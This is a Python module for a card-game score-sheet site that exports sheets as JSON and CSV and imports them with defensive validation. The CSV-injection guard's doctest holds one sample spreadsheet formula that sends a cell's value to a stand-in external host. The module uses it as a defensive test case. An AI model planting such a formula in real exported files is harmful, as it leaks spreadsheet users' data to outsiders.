"""A sheet as a file: JSON export and import (the inputs, which recompute the accounts) and
a CSV of the accounts for a spreadsheet.

The JSON keeps what the sheet stores -- rule set, players, stake, options, the deals'
inputs -- plus the totals, which an import checks against its own recomputation, so a
file edited by hand into something inconsistent is refused with the reason. Format
version 1 is a sheet whose players sat through the evening; version 2 adds entries of a
player joining (``"kind": "join"``) or leaving (``"leave"``) the table, and lists the
late players among ``players`` (a player whose first such entry is a join was not at the
table at the start). A sheet without them is still written as version 1, and both import.

A file is read defensively: JSON that no sheet could be (a number of thousands of digits,
lists nested thousands deep, text that is not valid Unicode or holds a NUL, which no
database keeps) is refused with the reason, never an error of the server.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from fractions import Fraction
from typing import Any, cast

from games.engine.amounts import format_amount
from games.engine.games import UnknownGame, get
from games.engine.wording import said

from . import ledger
from .ledger import Entry, EntryError, Row, Sheet, Spec, SpecError, say

FORMAT = "rulesite-scoresheet"
FORMAT_VERSION = 1
FORMAT_VERSIONS: tuple[int, ...] = (1, 2)
"""The versions this site reads: 1, and 2 (players joining and leaving)."""
MAX_ENTRIES = 2000
MAX_DEPTH = 8
"""The deepest nesting of a sheet: the object, entries, an entry, hands, a hand, a card; or,
for a game answered from one request, an entry's players, a player, his hands, a hand, its
cards, a card (:data:`ledger.MAX_REQUEST_DEPTH` below the entry)."""
_TOTAL = re.compile(r"-?\d{1,12}(?:\.\d{1,12})?(?:/[1-9]\d{0,12})?")


class ImportError_(ValueError):  # noqa: N801 -- not the builtin ImportError
    """A file that is not a sheet; the message says what is wrong and where."""


@dataclass(frozen=True)
class Imported:
    spec: Spec
    title: str
    finished: bool
    entries: list[Entry]
    sheet: Sheet
    states: list[dict[str, Any]]
    """The running state after each entry, as :func:`ledger.dump_state` stores it."""


ENTRY_KEYS: tuple[str, ...] = (
    "dealer", "stood", "bought", "bases", "mode",
    "hands", "places", "categories", "cards", "scores", "player",
)  # fmt: skip
"""The order an entry's values are written in, the order :func:`ledger.clean_entry` builds
them: a file does not depend on how the database keeps JSON (PostgreSQL's ``jsonb`` orders an
object's keys by their length)."""


def _in_order(values: Mapping[str, Any], order: Sequence[str]) -> dict[str, Any]:
    """``values`` with the keys of ``order`` first, in that order, then any other, sorted."""
    rank = {key: i for i, key in enumerate(order)}
    return {k: values[k] for k in sorted(values, key=lambda k: (rank.get(k, len(rank)), k))}


def _schema_order(value: Any, schema: Any) -> Any:
    """A request's value with every object's keys in the order its JSON Schema declares
    them (``properties``; keys it does not declare after them, sorted), lists item by item
    (``items``): the order the game's API documents, whatever order the database kept.

    >>> schema = {"properties": {"dealer": {}, "players": {"items": {"properties": {"hand": {}}}}}}
    >>> _schema_order({"players": [{"x": 1, "hand": []}], "dealer": 0}, schema)
    {'dealer': 0, 'players': [{'hand': [], 'x': 1}]}
    """
    schema = schema if isinstance(schema, Mapping) else {}
    if isinstance(value, dict):
        properties = schema.get("properties")
        properties = properties if isinstance(properties, Mapping) else {}
        ordered = _in_order(value, list(properties))
        return {k: _schema_order(v, properties.get(k)) for k, v in ordered.items()}
    if isinstance(value, list):
        return [_schema_order(v, schema.get("items")) for v in value]
    return value


def _entry_values(spec: Spec, data: Mapping[str, Any]) -> dict[str, Any]:
    """An entry's values in the order a file writes them: a deal's request in the order of
    the game's request schema, any other entry's in :data:`ENTRY_KEYS`'s."""
    schema = spec.kept.request_schema(spec)
    if schema is not None:
        return cast(dict[str, Any], _schema_order(dict(data), schema))
    return _in_order(ledger.padded(spec, data), ENTRY_KEYS)


def export_dict(title: str, finished: bool, spec: Spec, sheet: Sheet) -> dict[str, Any]:
    """The sheet as a JSON-able object (no tokens: a file may be shared freely), its keys
    always in the same order: options as the game declares them, an entry's values as
    :data:`ENTRY_KEYS`."""
    seats_change = any(r.entry.kind in ledger.SEAT_KINDS for r in sheet.rows)
    return {
        **_head(title, finished, spec, seats_change),
        "entries": [
            {"kind": row.entry.kind, **_entry_values(spec, row.entry.data)} for row in sheet.rows
        ],
        "totals": {
            name: str(total) for name, total in zip(spec.players, sheet.totals, strict=True)
        },
    }


def _head(title: str, finished: bool, spec: Spec, seats_change: bool) -> dict[str, Any]:
    """What a file says before its entries; ``seats_change``: a player joins or leaves."""
    return {
        "format": FORMAT,
        "format_version": 2 if seats_change or spec.late else FORMAT_VERSION,
        "title": title,
        "rules": spec.rules,
        "rules_label": spec.label,
        "players": list(spec.players),
        "stake": str(spec.stake) if spec.stake is not None else None,
        "options": _in_order(spec.options, [option.name for option in spec.game.options]),
        "finished": finished,
    }


def export_json(title: str, finished: bool, spec: Spec, sheet: Sheet) -> str:
    return json.dumps(export_dict(title, finished, spec, sheet), ensure_ascii=False, indent=2)


def _dumped(value: Any, level: int) -> str:
    """``value`` as :func:`export_json` writes it ``level`` objects deep (JSON text holds no
    line break but those of its indentation)."""
    return json.dumps(value, ensure_ascii=False, indent=2).replace("\n", "\n" + "  " * level)


def export_json_parts(
    title: str,
    finished: bool,
    spec: Spec,
    seats_change: bool,
    entries: Iterable[Entry],
    totals: Callable[[], Sequence[Fraction]],
) -> Iterator[str]:
    """:func:`export_json`'s text, byte for byte, in pieces: the head, each entry as it is
    read, then the totals (``totals`` is asked once the entries are done: the accounts
    after the last of them). ``seats_change``: a player joins or leaves in ``entries``."""
    head = _dumped(_head(title, finished, spec, seats_change), 0)
    yield head[: -len("\n}")] + ',\n  "entries": ['
    separator = "\n    "
    for entry in entries:
        yield separator + _dumped({"kind": entry.kind, **_entry_values(spec, entry.data)}, 2)
        separator = ",\n    "
    after = totals()
    written = {name: str(total) for name, total in zip(spec.players, after, strict=True)}
    yield ("]" if separator == "\n    " else "\n  ]") + ',\n  "totals": '
    yield _dumped(written, 1) + "\n}"


def _require(obj: dict[str, Any], name: str, kind: type | tuple[type, ...], what: str) -> Any:
    if name not in obj:
        raise ImportError_(f"{name}: missing; the file needs {what}")
    value = obj[name]
    if not isinstance(value, kind) or isinstance(value, bool) and kind is not bool:
        raise ImportError_(f"{name}: must be {what}, not {json.dumps(value)[:60]}")
    return value


def _check_texts(obj: Any) -> None:
    """Refuse nesting deeper than a sheet's and text no database keeps: half of a surrogate
    pair (what ``"\\ud800"`` decodes to), or a NUL."""
    stack: list[tuple[Any, str, int]] = [(obj, "", 0)]
    while stack:
        value, path, depth = stack.pop()
        if depth > MAX_DEPTH:
            raise ImportError_(f"{path or 'the file'}: nested deeper than any sheet")
        if isinstance(value, str):
            texts = [value]
        elif isinstance(value, dict):
            texts = list(value)
            stack.extend(
                (v, f"{path}.{k}" if path else str(k), depth + 1) for k, v in value.items()
            )
        elif isinstance(value, list):
            texts = []
            stack.extend((v, f"{path}[{i}]", depth + 1) for i, v in enumerate(value))
        else:
            continue
        for text in texts:
            if "\x00" in text:
                raise ImportError_(
                    f"{path or 'the file'}: holds a NUL character, which is not text"
                )
            try:
                text.encode("utf-8")
            except UnicodeEncodeError:
                raise ImportError_(
                    f"{path or 'the file'}: holds half of a surrogate pair (like \\ud800), "
                    "which is not text"
                ) from None


def import_sheet(text: str) -> Imported:
    """Read and check an exported sheet; every deal is replayed through the engine.

    >>> import_sheet('{"format": "x"}')
    Traceback (most recent call last):
    ...
    games.scoresheet.serialize.ImportError_: format: this is not a rulesite score sheet (format 'x')
    >>> import_sheet('{"n": ' + "9" * 5000 + "}")  # doctest: +ELLIPSIS
    Traceback (most recent call last):
    ...
    games.scoresheet.serialize.ImportError_: ...: a number has more than 4,300 digits
    """
    try:
        obj = json.loads(text)
    except json.JSONDecodeError as error:
        raise ImportError_(
            f"the file is not JSON: {error.msg} at line {error.lineno}, column {error.colno}"
        ) from None
    except RecursionError:
        raise ImportError_("the file is not JSON a sheet could be: it nests too deeply") from None
    except ValueError:  # Python refuses to read an integer of more than 4,300 digits
        raise ImportError_(
            "the file is not JSON a sheet could be: a number has more than 4,300 digits"
        ) from None
    if not isinstance(obj, dict):
        raise ImportError_("the file must hold one JSON object, the sheet")
    _check_texts(obj)
    if obj.get("format") != FORMAT:
        raise ImportError_(
            f"format: this is not a rulesite score sheet (format {str(obj.get('format'))[:40]!r})"
        )
    version = obj.get("format_version")
    if type(version) is not int or version not in FORMAT_VERSIONS:
        shown = json.dumps(version)[:40]
        raise ImportError_(
            f"format_version: this site reads versions "
            f"{' and '.join(str(v) for v in FORMAT_VERSIONS)} (whole numbers), not {shown}"
        )
    title = obj.get("title", "")
    if not isinstance(title, str) or len(title) > ledger.MAX_TITLE:
        raise ImportError_(f"title: must be text of at most {ledger.MAX_TITLE} characters")
    try:
        title = ledger.clean_title(title)
    except SpecError as error:
        raise ImportError_(f"title: {error.message}") from None
    finished = obj.get("finished", False)
    if not isinstance(finished, bool):
        raise ImportError_("finished: must be true or false")
    slugs = ", ".join(slug for slug, _ in ledger.game_choices())
    rules = _require(obj, "rules", str, f"a game ({slugs})")
    players = _require(obj, "players", list, "a list of the players' names")
    options = obj.get("options", {})
    if not isinstance(options, dict):
        raise ImportError_("options: must be an object of house-rule options")
    try:
        game = get(rules)
    except UnknownGame:
        game = None  # make_spec says which games there are
    unknown = set(options) - {o.name for o in game.options} if game is not None else set()
    if game is not None and unknown:
        raise ImportError_(
            f"options: {', '.join(sorted(unknown))} "
            f"{'is' if len(unknown) == 1 else 'are'} not an option of {game.label}"
        )
    stake = obj.get("stake")
    raw_entries = _require(obj, "entries", list, "a list of the deals")
    late = _late_seats(raw_entries, version)
    try:
        spec = ledger.make_spec(rules, players, "" if stake is None else stake, options, late)
    except SpecError as error:
        where = (
            error.field
            if error.field in ("rules", "players", "stake")
            else f"options.{error.field}"
        )
        raise ImportError_(f"{where}: {error.message}") from None
    if len(spec.players) != len(players):
        raise ImportError_("players: a name is empty")
    if len(raw_entries) > MAX_ENTRIES:
        raise ImportError_(f"entries: more than {MAX_ENTRIES} deals is not an evening")
    entries: list[Entry] = []
    for i, raw in enumerate(raw_entries):
        if not isinstance(raw, dict):
            raise ImportError_(f"entries[{i}]: must be an object (a deal)")
        kind = raw.get("kind", "deal")
        if kind in ledger.SEAT_KINDS and version < 2:
            raise ImportError_(f"entries[{i}]: a {kind} needs format_version 2")
        data = {k: v for k, v in raw.items() if k != "kind"}
        try:
            entries.append(Entry(kind, ledger.clean_entry(spec, kind, data)))
        except EntryError as error:
            where = f" ({error.field})" if error.field else ""
            raise ImportError_(f"entries[{i}]{where}: {error.message}") from None
    state = ledger.initial(spec)
    rows = []
    states = []
    try:
        for entry in entries:
            state, row = ledger.step(spec, state, entry)
            rows.append(row)
            states.append(ledger.dump_state(state, row))
    except EntryError as error:
        where = f" ({error.field})" if error.field else ""
        raise ImportError_(f"entries[{error.index}]{where}: {error.message}") from None
    sheet = ledger.summarise(spec, state, rows)
    totals = obj.get("totals")
    if totals is not None:
        if not isinstance(totals, dict):
            raise ImportError_("totals: must be an object of each player's total")
        for name, total in zip(spec.players, sheet.totals, strict=True):
            if name not in totals:
                continue
            written = str(totals[name]).strip()
            if isinstance(totals[name], bool) or not _TOTAL.fullmatch(written):
                raise ImportError_(f"totals.{name}: {totals[name]!r} is not a number")
            stated = Fraction(written)
            if stated != total:
                raise ImportError_(
                    f"totals.{name}: the file says {format_amount(stated)}, but its deals give "
                    f"{format_amount(total)}; was the file edited?"
                )
    return Imported(spec, title, finished, entries, sheet, states)


def _late_seats(raw_entries: list[Any], version: int) -> list[int]:
    """The seats whose first entry of joining or leaving is a join: not at the table at the
    start (format version 2)."""
    if version < 2:
        return []
    first: dict[int, str] = {}
    for raw in raw_entries:
        if isinstance(raw, dict) and raw.get("kind") in ledger.SEAT_KINDS:
            seat = raw.get("player")
            if type(seat) is int and seat not in first:
                first[seat] = raw["kind"]
    return sorted(seat for seat, kind in first.items() if kind == "join")


def csv_amount(value: Fraction | int | None) -> str:
    """A number a spreadsheet reads: ASCII minus, decimals (six places when a third or
    such has no exact decimal; the JSON export keeps the exact fraction).

    >>> csv_amount(Fraction(-5, 2)), csv_amount(Fraction(1, 3)), csv_amount(3)
    ('-2.5', '0.333333', '3')
    """
    if value is None:
        return ""
    text = format_amount(value).replace("−", "-")
    if "/" in text:
        text = f"{float(Fraction(value)):.6f}"
    return text


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_text(text: str) -> str:
    """Text for a spreadsheet cell that no spreadsheet runs as a formula: a cell starting
    with ``=``, ``+``, ``-``, ``@``, a tab or a line break gets a single quote before it
    (OWASP's advice for CSV injection); the name stays readable.

    >>> print(csv_text('=HYPERLINK("http://x.example/?"&A1,"ok")'), csv_text("Ann"))
    '=HYPERLINK("http://x.example/?"&A1,"ok") Ann
    """
    return "'" + text if text.startswith(_FORMULA_START) else text


def csv_rows(title: str, spec: Spec, sheet: Sheet) -> list[list[str]]:
    """The accounts as a table: one row per deal, each player's result and running total.
    Every cell of text (names, hands) is made safe from formula injection by
    :func:`csv_text`; amounts are numbers, written by :func:`csv_amount`."""
    return list(csv_lines(spec, sheet.rows, lambda: sheet))


def csv_lines(spec: Spec, rows: Iterable[Row], after: Callable[[], Sheet]) -> Iterator[list[str]]:
    """:func:`csv_rows` line by line, the rows computed as they are read; ``after`` is asked
    once they are done for the sheet after the last of them (its total line)."""
    amounts = _amount_columns(spec)
    yield [csv_text(cell) for cell in _csv_head(spec)]
    for row in _csv_body(spec, rows, after):
        yield [cell if i in amounts else csv_text(cell) for i, cell in enumerate(row)]


def _amount_columns(spec: Spec) -> set[int]:
    columns: set[int] = set()
    i = 3
    bought, pool = spec.game.bought, spec.kept.pool
    for _ in spec.players:
        width = 3 + (1 if bought else 0) + (1 if pool else 0)
        # hand, [bought], net, total, [counters]: net and total are amounts
        net = i + (2 if bought else 1)
        columns |= {net, net + 1}
        i += width
    if pool:
        columns.add(i)
    return columns


def _csv_head(spec: Spec) -> list[str]:
    pool = spec.kept.pool
    bought = spec.game.bought
    # The header row in the page's language (the English one byte for byte as it always was);
    # the cells below are numbers and names, the same in every language.
    head = [
        say(said("Deal")),
        say(said("Retailer")) if spec.kept.retailer else say(said("Dealer")),
        say(said("Winners")),
    ]
    for name in spec.players:
        head += [
            say(said("{name}: hand", name=name)),
            say(said("{name}: net", name=name))
            if spec.money
            else say(said("{name}: score", name=name)),
            say(said("{name}: total", name=name)),
        ]
        if bought:
            head.insert(len(head) - 2, say(said("{name}: bought", name=name)))
        if pool:
            head.append(say(said("{name}: counters", name=name)))
    if pool:
        head.append(say(said("Pool")))
    return head


def _csv_body(spec: Spec, rows: Iterable[Row], after: Callable[[], Sheet]) -> Iterator[list[str]]:
    counted = spec.kept.counts_cards
    pool = spec.kept.pool
    bought = spec.game.bought
    kinds = {
        "horse": say(said("horse")),
        "join": say(said("join")),
        "leave": say(said("leave")),
    }
    for row in rows:
        label = (
            str(row.number) if row.number is not None else kinds.get(row.entry.kind, row.entry.kind)
        )
        dealer = spec.players[row.dealer] if row.dealer is not None else ""
        if row.entry.kind in ledger.SEAT_KINDS:
            dealer = spec.players[row.entry.data["player"]]
        winners = ", ".join(spec.players[w] for w in row.winners)
        line = [label, dealer, winners]
        hands = {h.seat: h for h in row.hands}
        for seat in range(spec.n):
            hand = hands.get(seat)
            shown = ""
            if hand is not None:
                shown = (
                    " ".join(hand.cards)
                    if hand.cards
                    else (
                        say(said("place {place}", place=str(hand.place)))
                        + f" {hand.category}".rstrip()
                        if hand.place
                        else ""
                    )
                )
                if counted:
                    base = say(said("base {base}", base=str(hand.base)))
                    shown = " ".join(hand.cards) + f" ({base})"
            cells = [shown, csv_amount(row.net[seat]), csv_amount(row.totals[seat])]
            if bought:
                count = ledger.padded(spec, row.entry.data).get("bought", [0] * spec.n)[seat]
                cells.insert(1, str(count))
            if pool:
                cells.append(str(row.counters[seat]) if row.counters else "")
            line += cells
        if pool:
            line.append(csv_amount(row.pool))
        yield line
    yield []
    sheet = after()
    yield (
        [say(said("Total")), "", ", ".join(spec.players[w] for w in sheet.winners)]
        + [
            cell
            for seat in range(spec.n)
            for cell in (
                [""] * (2 if bought else 1)
                + ["", csv_amount(sheet.totals[seat])]
                + ([str(sheet.counters[seat])] if pool and sheet.counters else [])
            )
        ]
        + ([csv_amount(sheet.pool)] if pool else [])
    )
